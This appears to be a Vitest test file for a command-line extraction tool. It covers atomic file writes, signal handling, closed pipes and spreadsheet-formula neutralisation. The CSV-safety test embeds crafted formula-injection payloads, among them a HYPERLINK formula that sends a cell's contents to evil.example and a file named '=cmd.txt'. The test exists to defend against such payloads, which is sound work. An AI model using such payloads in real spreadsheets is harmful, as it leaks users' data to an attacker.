import { execFileSync } from 'node:child_process';
import { copyFileSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseCsv } from 'csv-parse/sync';
import { BIN, runBin, SEEDS, startBin, tempDir } from './helpers/bin.js';

// Output safety: an output file is replaced whole or not at all (temporary file, then
// rename), interrupts leave no temporary files, an output that is also an input is
// refused, a closed pipe ends the run quietly, and spreadsheet cells cannot run formulas.

const SEED_FILES = readdirSync(SEEDS).filter((f) => f.endsWith('.txt')).sort();
const OLD = '{"old": "content, must survive"}\n';

let tmp: { dir: string; cleanup: () => void };
const at = (...p: string[]): string => join(tmp.dir, ...p);
const leftovers = (dir: string): string[] => readdirSync(dir).filter((f) => f.endsWith('.tmp'));

beforeAll(() => {
  tmp = tempDir('htx-output-');
  // a folder big enough that a run takes a while: every seed many times over
  mkdirSync(at('big'));
  for (let i = 0; i < 60; i += 1) for (const f of SEED_FILES) copyFileSync(join(SEEDS, f), at('big', `${String(i).padStart(3, '0')}-${f}`));
});

afterAll(() => tmp.cleanup());

describe('atomic writes', () => {
  it('a run that fails (invalid --rules) leaves an existing output file as it was', async () => {
    writeFileSync(at('out.json'), OLD);
    writeFileSync(at('bad-rules.yaml'), 'rules: [ {key: 1\n');
    const r = await runBin(['extract', SEEDS, '--rules', at('bad-rules.yaml'), '-o', at('out.json')]);
    expect(r.code).toBe(2);
    expect(readFileSync(at('out.json'), 'utf8')).toBe(OLD);
    expect(leftovers(tmp.dir)).toEqual([]);
  });

  for (const [signal, code] of [
    ['SIGTERM', 143],
    ['SIGINT', 130],
  ] as const) {
    it(`a run killed with ${signal} leaves the old output (or a complete new one) and no temporary file`, { timeout: 60_000 }, async () => {
      const out = at(`killed-${signal}.json`);
      writeFileSync(out, OLD);
      const { child, done } = startBin(['extract', at('big'), '-o', out, '--jobs', '1']);
      await new Promise((resolve) => setTimeout(resolve, 700));
      child.kill(signal);
      const r = await done;
      const content = readFileSync(out, 'utf8');
      if (content !== OLD) {
        // the run finished before the signal: then the file is whole
        expect(JSON.parse(content).documents.length).toBe(60 * SEED_FILES.length);
      } else {
        expect(r.code ?? r.signal, r.stderr).toBe(code);
      }
      expect(leftovers(tmp.dir)).toEqual([]);
    });
  }

  it('a new output file is written whole, with no temporary file beside it', async () => {
    const r = await runBin(['extract', SEEDS, '-o', at('fresh.json'), '-q']);
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(readFileSync(at('fresh.json'), 'utf8')).documents).toHaveLength(SEED_FILES.length);
    expect(leftovers(tmp.dir)).toEqual([]);
  });
});

describe('NDJSON into a file', () => {
  it('is streamed into the file, with the bytes of standard output and no temporary file left', async () => {
    const r = await runBin(['extract', SEEDS, '-f', 'ndjson', '-o', at('out.ndjson'), '--jobs', '2']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toMatch(/5 documents, \d+ targets → .*out\.ndjson/);
    expect(readFileSync(at('out.ndjson'), 'utf8')).toBe((await runBin(['extract', SEEDS, '-f', 'ndjson', '-q'])).stdout);
    expect(leftovers(tmp.dir)).toEqual([]);
  });

  it('a folder that does not exist is said at once, naming the output file; nothing is left', async () => {
    const r = await runBin(['extract', SEEDS, '-f', 'ndjson', '-o', at('missing', 'out.ndjson')]);
    expect(r.code).toBe(2);
    expect(r.stderr.trim()).toMatch(/^htx-targets: .*missing\/out\.ndjson: cannot write the output file: its folder does not exist$/);
    expect(leftovers(tmp.dir)).toEqual([]);
  });

  it('an output path that is a folder is refused before any work, in every format', async () => {
    mkdirSync(at('a-folder.json'));
    for (const format of ['json', 'ndjson']) {
      const r = await runBin(['extract', SEEDS, '-f', format, '-o', at('a-folder.json')]);
      expect(r.code).toBe(2);
      expect(r.stderr.trim()).toMatch(/a-folder\.json: cannot write the output file: it is a folder$/);
    }
    expect(leftovers(tmp.dir)).toEqual([]);
  });
});

describe('an output path that is also an input', () => {
  it('is refused when named as an input', async () => {
    copyFileSync(join(SEEDS, SEED_FILES[0]!), at('plan.txt'));
    const before = readFileSync(at('plan.txt'), 'utf8');
    const r = await runBin(['extract', at('plan.txt'), '-o', at('plan.txt'), '-f', 'json']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/plan\.txt: the output file is also an input/);
    expect(readFileSync(at('plan.txt'), 'utf8')).toBe(before);
  });

  it('is refused when it lies in an input folder', async () => {
    mkdirSync(at('folder'));
    copyFileSync(join(SEEDS, SEED_FILES[0]!), at('folder', 'a.txt'));
    copyFileSync(join(SEEDS, SEED_FILES[1]!), at('folder', 'b.md'));
    const before = readFileSync(at('folder', 'b.md'), 'utf8');
    const r = await runBin(['extract', at('folder'), '-o', at('folder', 'b.md'), '-f', 'json']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/b\.md: the output file is also an input/);
    expect(readFileSync(at('folder', 'b.md'), 'utf8')).toBe(before);
  });
});

describe('a closed pipe', () => {
  it('`htx-targets extract … | head -1` ends quietly: no EPIPE, exit 0', { timeout: 60_000 }, () => {
    // the output (megabytes) is far larger than a pipe buffer, so the writer meets the closed pipe
    const script = `"${process.execPath}" "${BIN}" extract "${at('big')}" --jobs 1 2>"${at('pipe-err.txt')}" | head -1 >/dev/null; echo "\${PIPESTATUS[0]}"`;
    const status = execFileSync('bash', ['-c', script], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } }).trim();
    expect(readFileSync(at('pipe-err.txt'), 'utf8')).toBe('');
    expect(status).toBe('0');
  });

  it('the same with ndjson (streamed) and with seeds/', () => {
    for (const args of [`extract "${at('big')}" -f ndjson --jobs 1`, `extract "${SEEDS}"`]) {
      const script = `"${process.execPath}" "${BIN}" ${args} 2>"${at('pipe-err2.txt')}" | head -1 >/dev/null; echo "\${PIPESTATUS[0]}"`;
      const status = execFileSync('bash', ['-c', script], { encoding: 'utf8' }).trim();
      expect(readFileSync(at('pipe-err2.txt'), 'utf8'), args).toBe('');
      expect(status, args).toBe('0');
    }
  });
});

describe('spreadsheet safety of CSV and TSV', () => {
  const FORMULA = /^[=+\-@\t\r]/;
  // sentences that start with a formula and still state a target (the quote keeps the start)
  const crafted = [
    '=HYPERLINK("http://evil.example/x","bấm vào đây")',
    '',
    'Đến năm 2030:',
    '',
    '=HYPERLINK("http://evil.example/?"&A1,"x") có 700 hợp tác xã.',
    '',
    '+1.000 tổ hợp tác được thành lập mới.',
    '',
    '@SUM(1) tỷ lệ hợp tác xã hoạt động hiệu quả đạt 80%.',
    '',
    '=700 hợp tác xã.',
    '',
    '+25 liên hiệp hợp tác xã.',
    '',
    '-2 Phấn đấu có 3.000 tổ hợp tác.',
    '',
].join('\n');

  beforeAll(() => {
    mkdirSync(at('crafted'));
    writeFileSync(at('crafted', '=cmd.txt'), crafted);
  });

  for (const format of ['csv', 'tsv'] as const) {
    it(`${format}: text cells that could start a formula are neutralised, numbers stay numbers`, async () => {
      const out = at(`crafted.${format}`);
      const r = await runBin(['extract', '=cmd.txt', '-o', out, '-q'], { cwd: at('crafted') });
      expect(r.code, r.stderr).toBe(0);
      const text = readFileSync(out, 'utf8');
      const rows = parseCsv(text, { delimiter: format === 'csv' ? ',' : '\t', relax_quotes: true }) as string[][];
      const [header, ...body] = rows;
      expect(body.length).toBeGreaterThanOrEqual(3);
      const col = (name: string): number => header!.indexOf(name);
      for (const row of body) {
        for (const cell of row) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(FORMULA);
        // the crafted file name and quotes arrive neutralised, not dropped
        expect(row[col('source')]).toBe("'=cmd.txt");
      }
      const quotes = body.map((row) => row[col('quote')]!);
      for (const start of ["'+1.000 ", "'@SUM(1) ", "'=700 ", "'+25 "]) expect(quotes.some((q) => q.startsWith(start)), `${start} in\n${quotes.join('\n')}`).toBe(true);
      expect(body[0]![col('title')]).toMatch(/^'=HYPERLINK\(/);
      // numbers are written as bare numbers (no apostrophe, no quotes)
      const values = body.map((row) => row[col('value')]!).filter((v) => v !== '');
      expect(values.length).toBeGreaterThan(0);
      for (const v of values) expect(v).toMatch(/^-?\d+(?:\.\d+)?$/);
      expect(text).not.toMatch(/(?:^|[,\t])"?[=+@]/m);
    });
  }

  it('every text column of every seed row passes the same check', async () => {
    const r = await runBin(['extract', SEEDS, '-f', 'csv']);
    const rows = parseCsv(r.stdout) as string[][];
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(FORMULA);
  });
});
